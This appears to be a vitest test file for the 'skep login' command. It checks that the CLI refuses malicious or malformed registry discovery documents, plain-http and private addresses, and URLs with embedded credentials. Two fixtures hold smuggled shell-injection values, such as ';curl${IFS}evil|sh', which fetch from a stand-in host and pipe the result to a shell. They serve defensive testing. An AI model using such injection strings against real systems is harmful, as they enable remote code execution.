import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { closeServer, listen } from '@skep/core/fetch/listen.ts';
import { describe, expect, onTestFinished, test } from 'vitest';
import { commandUnderTest } from '../command-under-test.fixture.ts';
import { loginWorld } from './login-world.fixture.ts';
import { registryServer, type ScriptedAnswer, type SeenRequest } from './registry-server.fixture.ts';

const machine = { supervisor: 'none', env: { SKEP_SECRETS_PASSWORD: 'correct horse' } } as const;

/** A server whose document is made of its own address. */
async function announcing(
  document: (address: string) => unknown,
  more?: (one: SeenRequest) => ScriptedAnswer,
) {
  let own = '';
  const server = await registryServer((request) =>
    request.line === 'GET /.well-known/skep-registry' ? [200, document(own)] : more?.(request),
  );
  own = server.address;
  return server;
}

describe('skep login', () => {
  test.each<[why: string, document: (address: string) => unknown, said: RegExp]>([
    [
      'another server',
      () => ({ resource: 'https://elsewhere.test', sign_in: [{ issuer: 'https://idp.test' }] }),
      /says that its address is "https:\/\/elsewhere\.test"; whoever runs it has to set its resourceUrl/,
    ],
    [
      'a command',
      (address) => ({
        resource: `${address}/;curl$\{IFS}evil|sh`,
        sign_in: [{ issuer: 'https://idp.test' }],
      }),
      /evil\|sh"; whoever runs it has to set its resourceUrl/,
    ],
    [
      'a part of itself',
      (address) => ({ resource: `${address}/mcp`, sign_in: [{ issuer: 'https://idp.test' }] }),
      /says that its address is "(.*\/mcp)"; use that: skep login \1/,
    ],
    ['no way to sign in', (address) => ({ resource: address, sign_in: [] }), /cannot be read/],
    ['something else', () => ['x'], /cannot be read/],
    [
      'an endless client id',
      (address) => ({
        resource: address,
        sign_in: [{ issuer: 'https://a.test', client_id: 'x'.repeat(9_000) }],
      }),
      /cannot be read/,
    ],
    [
      'an endless issuer',
      (address) => ({ resource: address, sign_in: [{ issuer: `https://a.test/${'x'.repeat(9_000)}` }] }),
      /cannot be read/,
    ],
    ['no issuer', (address) => ({ resource: address, sign_in: [{ client_id: 'x' }] }), /cannot be read/],
    [
      'several identity providers, and nobody can be asked',
      (address) => ({
        resource: address,
        sign_in: [{ issuer: 'https://a.test' }, { issuer: 'https://b.test' }],
      }),
      /several identity providers: https:\/\/a\.test, https:\/\/b\.test; choose one with --issuer/,
    ],
  ])('refuses a document that speaks of %s', async (_, document, said) => {
    const skep = await commandUnderTest(machine);
    const { address, seen } = await announcing(document);
    expect(await skep.refusal(`login --allow-private-ip ${address}`)).toMatch(said);
    expect(seen.map(({ line }) => line)).toEqual(['GET /.well-known/skep-registry']);
    expect(await skep.read(skep.places.configFile).catch(() => '')).not.toContain('registry_auth');
  });

  test('takes of the address in a document only where it is', async () => {
    const skep = await commandUnderTest(machine);
    const { address, seen } = await announcing((own) => ({
      resource: `${own}/?;evil|sh#x`,
      sign_in: [{ issuer: own, client_id: 'job' }],
    }));
    await skep.write('secret', 's');
    const line = `login --client-id job --client-secret-file secret --issuer ${address} --allow-private-ip ${address}`;
    expect(await skep.refusal(line)).not.toContain('evil');
    expect(seen.map((one) => one.line).join()).not.toContain('evil');
  });

  test('says that a server does not tell how one signs in', async () => {
    const skep = await commandUnderTest(machine);
    const { address } = await registryServer(() => undefined);
    expect(await skep.refusal(`login --allow-private-ip ${address}`)).toContain(
      `does not say how one signs in; a registry without sign-in is chosen with skep config set-registry ${address}`,
    );
  });

  test.each<[why: string, answer: (elsewhere: string) => ScriptedAnswer, said: string]>([
    ['leads elsewhere', (elsewhere) => elsewhere, 'does not say how one signs in'],
    ['is far too long', () => [200, { resource: 'x'.repeat(10_000_000) }], 'larger than'],
    ['is no JSON', () => [200, Buffer.from('<html>')], 'does not say how one signs in'],
  ])('believes no document that %s', async (_, answer, said) => {
    const skep = await commandUnderTest(machine);
    const elsewhere = await registryServer(() => [
      200,
      { resource: 'https://x.test', sign_in: [{ issuer: 'https://x.test' }] },
    ]);
    const { address } = await registryServer(({ line }) =>
      line === 'GET /.well-known/skep-registry' ? answer(`${elsewhere.address}/x`) : undefined,
    );
    expect(await skep.refusal(`login --allow-private-ip ${address}`)).toContain(said);
    expect(elsewhere.seen).toEqual([]);
  });

  test('asks nobody where nothing can be kept', async () => {
    const skep = await commandUnderTest({
      supervisor: 'none',
      env: { SKEP_SECRETS_PROVIDER: 'environment' },
    });
    const { address, seen } = await announcing((own) => ({
      resource: own,
      sign_in: [{ issuer: own, client_id: 'skep' }],
    }));
    expect(await skep.refusal(`login --allow-private-ip ${address}`)).toContain('a sign-in cannot be kept');
    expect(seen.map(({ line }) => line)).toEqual(['GET /.well-known/skep-registry']);
  });

  test.each([
    ['login', 'which registry?'],
    [
      'login http://registry.test',
      'is asked in the clear, and a token would be read by whoever listens; use the https address',
    ],
    ['login http://127.0.0.1:9', 'plain http is not safe for signing in'],
    [
      'login https://127.0.0.1:9',
      'is not public; if the registry is meant to be there, give --allow-private-ip',
    ],
    ['login https://user:pw@registry.test', 'the address holds a login: "https://'],
    ['login http://10.0.0.5:8080 --allow-private-ip', 'is asked in the clear'],
    ['login ftp://registry.test', 'invalid address of a registry: "ftp://registry.test"'],
    ['login https://registry.test --client-secret-file absent', 'needs --client-id'],
    ['logout', 'you are signed in nowhere'],
    ['logout nonsense', 'invalid address of a registry: "nonsense"'],
    ['logout https://user:pw@registry.test', 'the address holds a login'],
    ['config set-registry https://user:pw@registry.test', 'the address holds a login: "https://'],
    ['unpublish a/b@1 --registry https://user:pw@registry.test', 'the address holds a login: "https://'],
  ])('skep %s is refused', async (line, said) => {
    const skep = await commandUnderTest(machine);
    const refusal = await skep.refusal(line);
    expect(refusal).toContain(said);
    expect(refusal).not.toContain('pw@');
  });

  test('names the flag that helps', async () => {
    const skep = await commandUnderTest(machine);
    const world = await loginWorld();
    const server = createServer();
    onTestFinished(() => void server.close());
    const taken = await listen(server, '127.0.0.1', 0);
    const ended = createServer();
    const free = await listen(ended, '127.0.0.1', 0);
    await closeServer(ended);
    const login = `login --skip-browser --allow-private-ip --issuer ${world.idp} ${world.registry}`;
    expect(await skep.refusal(`${login} --timeout 1s --callback-port ${free}`)).toMatch(
      /nobody signed in within 1s; sign in again, and give more time with --timeout\n$/,
    );
    expect(await skep.refusal(`${login} --callback-port ${taken}`)).toMatch(
      /not available; end what uses it, or give another with --callback-port\n$/,
    );
    world.offer = { client_id: undefined };
    expect(await skep.refusal(`${login} --callback-port ${free}`)).toMatch(
      /does not register clients by itself; register one there, and give its id with --client-id\n$/,
    );
    await writeFile(join(skep.cwd, 'secret'), 'not that of the client');
    world.answerToken = [401, { error: 'invalid_client' }];
    expect(
      await skep.refusal(
        `login --allow-private-ip --issuer ${world.idp} --client-id pipeline --client-secret-file secret ${world.registry}`,
      ),
    ).toMatch(/says "invalid_client"; check --client-id and --client-secret-file\n$/);
  });

  test('a logout where nobody signed in says so', async () => {
    const skep = await commandUnderTest(machine);
    expect(await skep.output('logout https://registry.test')).toBe('Nobody was signed in to registry.test\n');
  });
});
